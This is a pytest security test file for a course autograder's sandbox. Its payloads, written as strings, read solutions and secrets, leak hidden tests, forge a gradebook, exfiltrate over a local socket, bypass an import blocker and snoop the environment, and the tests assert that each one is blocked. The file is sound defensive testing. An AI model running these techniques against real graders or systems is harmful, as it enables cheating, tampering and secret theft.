"""Attacks through the file system, the network, imports and the environment.

Under bubblewrap the worker sees only Python, the virtual environment and a private /tmp: the
course (solutions, suites, gradebook, secret, other students) is not there, and there is no
network. The rlimits-only fallback keeps the import blocker and a scrubbed environment but not
the rest; those cases are expected failures there (the report says the sandbox was weaker, and
autograder/README.md lists the limits).
"""

from __future__ import annotations

import json
import shutil
import socket
import sqlite3
import threading

import pytest

from autograder import course
from autograder.samples import submission
from tests.security import kit
from tests.security.kit import attack

ALL = kit.FUNCTIONS


def without_bwrap(reason: str):
    return pytest.param(
        "none",
        marks=pytest.mark.xfail(strict=True, reason="KNOWN LIMIT without bwrap: " + reason),
    )


def blank_with(predict_cell: str) -> dict:
    """The blank release (nothing implemented) with code in the last answer cell: whatever it
    scores, it did not earn honestly."""
    return submission(kit.A, {"predict": kit.code(predict_cell)}, solved=False)


@pytest.fixture
def temp_course(tmp_path, monkeypatch):
    """A throw-away course root (DLCOURSE_ROOT) with the release, the solutions, a grading
    secret, a gradebook and another student's submission, as an instructor's machine has."""
    root = tmp_path / "course"
    for folder in ("assignments", "solutions"):
        shutil.copytree(kit.REPO / folder / kit.A, root / folder / kit.A)
    (root / ".dlcourse").mkdir()
    (root / ".dlcourse" / "secret").write_text("secret-" + "5" * 40)
    (root / ".dlcourse" / "secret").chmod(0o600)
    other = root / "submitted" / "alice" / kit.A
    other.mkdir(parents=True)
    kit.write_notebook(other / f"{kit.A}.ipynb", submission(kit.A))
    with sqlite3.connect(root / "gradebook.db") as db:
        db.execute("create table grade (student text, score real)")
        db.execute("insert into grade values ('mallory', 0)")
    monkeypatch.setenv(course.ENV_ROOT, str(root))
    return root


EXEC_SOLUTIONS_FROM = """
import json
def _run_answers(path):
    notebook = json.load(open(path))
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell["cell_type"] == "code" and meta.get("solution"):
            exec("".join(cell["source"]), globals())
try:
    _run_answers(PATH)
except Exception as error:
    print("could not read:", error)
"""


@pytest.mark.parametrize(
    "mode", ["bwrap", without_bwrap("the worker can read solutions/")], indirect=True
)
def test_reading_and_running_the_instructor_solutions(grade, mode, temp_course):
    path = temp_course / "solutions" / kit.A / f"{kit.A}.ipynb"
    report = grade(blank_with(EXEC_SOLUTIONS_FROM.replace("PATH", repr(str(path)))))
    kit.assert_honest(report, zero=ALL)


@pytest.mark.parametrize(
    "mode", ["bwrap", without_bwrap("the worker can read other submissions")], indirect=True
)
def test_copying_another_students_submission(grade, mode, temp_course):
    path = temp_course / "submitted" / "alice" / kit.A / f"{kit.A}.ipynb"
    report = grade(blank_with(EXEC_SOLUTIONS_FROM.replace("PATH", repr(str(path)))))
    kit.assert_honest(report, zero=ALL)


@pytest.mark.parametrize(
    "mode",
    ["bwrap", without_bwrap("the worker can read the suites and the secret file")],
    indirect=True,
)
def test_leaking_hidden_tests_and_the_secret_into_the_report(grade, mode, temp_course):
    suite = course.suite_path(kit.A)
    secret = temp_course / ".dlcourse" / "secret"
    leak = f"""
    def predict(parameters, X):
        found = []
        for path in ({str(suite)!r}, {str(secret)!r}):
            try:
                found.append(open(path).read()[-600:])
            except OSError as error:
                found.append(type(error).__name__)
        raise RuntimeError(" ".join(found))
    """
    report = grade(attack(predict=leak))
    kit.assert_honest(report, zero=["predict"])
    text = kit.report_text(report)
    assert secret.read_text() not in text
    assert suite.read_text()[-600:][:80] not in text


@pytest.mark.parametrize(
    "mode", ["bwrap", without_bwrap("the worker may write what the grader may")], indirect=True
)
def test_writing_the_gradebook(grade, mode, temp_course):
    gradebook = temp_course / "gradebook.db"
    before = gradebook.read_bytes()
    forge = f"""
    import sqlite3
    try:
        with sqlite3.connect({str(gradebook)!r}) as db:
            db.execute("update grade set score = 100")
    except Exception as error:
        print("blocked:", error)
    try:
        with open({str(gradebook)!r}, "ab") as handle:
            handle.write(b"tampered")
    except OSError as error:
        print("blocked:", error)
    def predict(parameters, X):
        return np.zeros((1, X.shape[1]))
    """
    report = grade(attack(predict=forge))
    kit.assert_honest(report, zero=["predict"])
    assert gradebook.read_bytes() == before


@pytest.mark.parametrize(
    "mode", ["bwrap", without_bwrap("there is no network namespace")], indirect=True
)
def test_network_exfiltration(grade, mode):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    received: list[bytes] = []
    stop = threading.Event()

    def accept_one() -> bool:
        try:
            connection, _ = server.accept()
        except OSError:
            return False
        with connection:
            connection.settimeout(5)
            try:
                received.append(connection.recv(100))
            except OSError:
                received.append(b"")
        return True

    def listen():
        while not stop.is_set():
            accept_one()

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    exfiltrate = f"""
    import socket
    def predict(parameters, X):
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=1) as connection:
                connection.sendall(b"exfiltrated")
        except OSError as error:
            raise RuntimeError(f"network: {{error}}")
        return np.zeros((1, X.shape[1]))
    """
    try:
        report = grade(attack(predict=exfiltrate))
    finally:
        stop.set()
        thread.join(10)
        # A connection still waiting in the backlog (the listening thread was starved on a
        # busy machine) counts too.
        while accept_one():
            pass
        server.close()
    kit.assert_honest(report, zero=["predict"])
    assert not received


@pytest.mark.parametrize("mode", ["bwrap", "none"], indirect=True)
def test_importing_the_reference_is_blocked(grade, mode):
    delegate = """
    import importlib
    attempts = []
    for load in (lambda: __import__("dlutils.shallow"),
                 lambda: importlib.import_module("dlutils.shallow"),
                 lambda: importlib.import_module("autograder.suites"),
                 lambda: __import__("nbgrader")):
        try:
            load()
        except ImportError as error:
            attempts.append(str(error))
    try:
        from dlutils.shallow import *  # noqa
    except ImportError:
        pass
    """
    report = grade(blank_with(delegate))
    kit.assert_honest(report, zero=ALL)
    assert any("dlutils" in note and "not available while grading" in note for note in report.notes)


@pytest.mark.parametrize(
    "mode", ["bwrap", without_bwrap("the course's files are readable")], indirect=True
)
def test_removing_the_import_blocker_and_importing_by_path(grade, mode):
    bypass = f"""
    import sys, importlib.util
    sys.meta_path[:] = [f for f in sys.meta_path if "Block" not in type(f).__name__]
    sys.path.insert(0, {str(kit.REPO)!r})
    for name in [name for name in sys.modules if name.split(".")[0] == "dlutils"]:
        del sys.modules[name]  # the given package, imported by the preamble
    try:
        from dlutils.shallow import *  # noqa
    except ImportError:
        spec = importlib.util.spec_from_file_location(
            "ref", {str(kit.REPO / "dlutils" / "shallow.py")!r})
        try:
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            globals().update(vars(module))
        except Exception as error:
            print("blocked:", error)
    """
    report = grade(blank_with(bypass))
    kit.assert_honest(report, zero=ALL)


@pytest.mark.parametrize(
    "mode", ["bwrap", without_bwrap("the editable install points at readable files")], indirect=True
)
def test_using_the_editable_install_finder(grade, mode):
    finder = """
    import glob, importlib.util, sys
    sys.meta_path[:] = [f for f in sys.meta_path if "Block" not in type(f).__name__]
    for directory in list(sys.path):
        for path in glob.glob(directory + "/__editable__*finder.py"):
            spec = importlib.util.spec_from_file_location("finder", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            module.install()
    try:
        from dlutils.shallow import *  # noqa
    except ImportError as error:
        print("blocked:", error)
    """
    report = grade(blank_with(finder))
    kit.assert_honest(report, zero=ALL)


MARKER_MODULE = """
import pathlib
pathlib.Path({marker!r}).write_text("imported {name}")
"""


def test_extra_files_next_to_the_notebook_are_never_imported(tmp_path):
    folder = tmp_path / "submission"
    folder.mkdir()
    markers = tmp_path / "markers"
    markers.mkdir()
    for name in (
        "numpy",
        "conftest",
        "dlutils",
        "autograder",
        "pytest",
        "sitecustomize",
        "usercustomize",
        "channel",
        "worker_main",
    ):
        marker = str(markers / name)
        (folder / f"{name}.py").write_text(MARKER_MODULE.format(marker=marker, name=name))
    (folder / "pytest.ini").write_text("[pytest]\naddopts = -p conftest\n")
    (folder / "suites").mkdir()
    shutil.copy(folder / "conftest.py", folder / "suites" / "conftest.py")
    path = kit.write_notebook(folder / f"{kit.A}.ipynb", submission(kit.A))
    result = kit.run_check(path, "--json", cwd=folder)
    assert result.returncode == 0, result.stderr[-2000:]
    assert json.loads(result.stdout)["score"] == kit.MAX_SCORE
    assert not list(markers.iterdir()), "a file submitted next to the notebook was imported"


def test_no_grading_flags_in_the_workers_environment(grade, monkeypatch):
    for key, value in {
        "NBGRADER_EXECUTION": "autograde",
        "NBGRADER_VALIDATING": "1",
        "DLCOURSE_SECRET": "do-not-leak-this",
        "CI": "true",
        "GITHUB_ACTIONS": "true",
        "OTTER_GRADING": "1",
    }.items():
        monkeypatch.setenv(key, value)
    snoop = """
    import os
    def predict(parameters, X):
        raise RuntimeError("ENV=" + repr(sorted(os.environ.items())))
    """
    report = grade(attack(predict=snoop))
    kit.assert_honest(report, zero=["predict"])
    text = kit.messages(report, "predict")
    assert "ENV=" in text
    for flag in ("NBGRADER", "DLCOURSE", "PYTEST", "CI'", "GITHUB", "OTTER", "do-not-leak-this"):
        assert flag not in text, flag
